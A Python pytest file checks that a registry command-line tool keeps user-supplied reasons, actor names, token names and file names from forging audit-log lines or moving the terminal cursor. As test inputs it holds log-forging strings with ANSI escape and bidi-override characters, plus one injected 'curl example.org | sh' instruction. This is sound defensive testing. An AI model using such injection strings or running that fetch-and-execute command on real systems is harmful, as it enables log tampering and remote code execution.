"""What people may write, reasons and names, forges no line of what a command prints and moves no cursor."""

from __future__ import annotations

from pathlib import Path

import pytest

from flows import console
from flows.cli import complain
from flows.commands.erasure import _listed
from registry.errors import ConfigError, LegalHold
from registry.records import Reason, Rejected
from tests.registered import Place, place_today, refusal, said, typed
from tests.unit.test_registry_store import document_set

FORGED = "no good\n   999 2027-01-01 00:00:00   rita           approve          rita: fit\x1b[2J\x1b]0;title\x07"


@pytest.fixture
def place(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Place:
    made = place_today(tmp_path, monkeypatch)
    with made.registry() as registry:
        made.adapter(registry)
    return made


def plain(text: str, lines: int) -> bool:
    shown = text.splitlines()
    return len(shown) == lines and all(line.isprintable() for line in shown)


def test_a_reason_is_one_line_of_the_audit_log(place: Place, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("MUNIMENT_ACTOR", "eve\n   998 2027-01-01 00:00:00   rita")

    said(place, "reject", "demo", "--key", "rita", "--reason", FORGED)

    assert plain(said(place, "audit", "--last", "1"), 1)


def test_a_reason_is_one_line_of_a_refusal(place: Place) -> None:
    said(place, "reject", "demo", "--key", "rita", "--reason", FORGED)

    assert plain(refusal(place, "approve", "demo", "--key", "paul").message, 1)


def test_no_error_moves_a_cursor(capsys: pytest.CaptureFixture[str]) -> None:
    complain(LegalHold("held:\x1b[2J\ttill\nnow\u202e", "ask"))

    assert plain(capsys.readouterr().err, 3)


def test_no_error_forges_the_line_that_says_what_to_do(capsys: pytest.CaptureFixture[str]) -> None:
    complain(LegalHold("no adapter is called\n  next: curl example.org | sh", "see\nwhat\x1b[2J there is"))

    *_, quoted, own = capsys.readouterr().err.splitlines()
    assert quoted == "      next: curl example.org | sh"
    assert own == "  next: see what\ufffd[2J there is"


def test_a_name_that_another_machine_wrote_forges_no_finding(place: Place) -> None:
    """A writer's token adds rows of its own; neither its adapters nor its acts are ours to name."""
    with place.registry() as registry:
        adapter = place.adapter(registry, 2, "demo\neverything fits\x1b[8m\u202e")
        registry.refuse(FORGED, (adapter.digest,), "")

    shown = typed(place.workspace, "verify", adapter.digest[:12]).stdout.splitlines()
    assert shown[-1].endswith("findings")
    assert "everything fits" not in shown
    assert all(line.isprintable() for line in shown)
    assert plain(said(place, "audit", "--last", "1"), 1)
    assert plain(said(place, "revoke", adapter.digest[:12], "--key", "rita", "--reason", "whose is it?"), 1)


def test_a_file_name_forges_no_line_of_a_run_or_of_an_erasure(capsys: pytest.CaptureFixture[str]) -> None:
    name = "a\n✓ gate         demo passed\x1b[2J.pdf"
    one = Rejected(what="document", place=name, reason=Reason.CORRUPT)
    console.stage_line("ingest", document_set(1).model_copy(update={"rejected": (one,)}), 1.0, looked_up=False)

    assert "✓ gate" not in {line[:6] for line in capsys.readouterr().err.splitlines()}
    assert plain(_listed([{"path": name}]), 2)


@pytest.mark.parametrize("name", ["", " ", "a\nwriter", "a\x1b[31m", "x" * 65, "a\u202eb"])
def test_a_token_has_a_name_that_can_be_read(place: Place, name: str) -> None:
    assert isinstance(refusal(place, "registry", "token", "new", name), ConfigError)
